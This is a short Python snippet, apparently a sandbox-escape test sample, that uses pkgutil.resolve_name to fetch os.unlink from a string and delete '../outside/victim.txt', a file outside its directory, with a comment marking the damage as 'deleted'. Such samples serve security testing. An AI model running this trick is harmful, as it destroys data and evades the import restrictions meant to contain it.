# pkgutil turns a string into a function.
# damage: deleted
import pkgutil

pkgutil.resolve_name("os:unlink")("../outside/victim.txt")
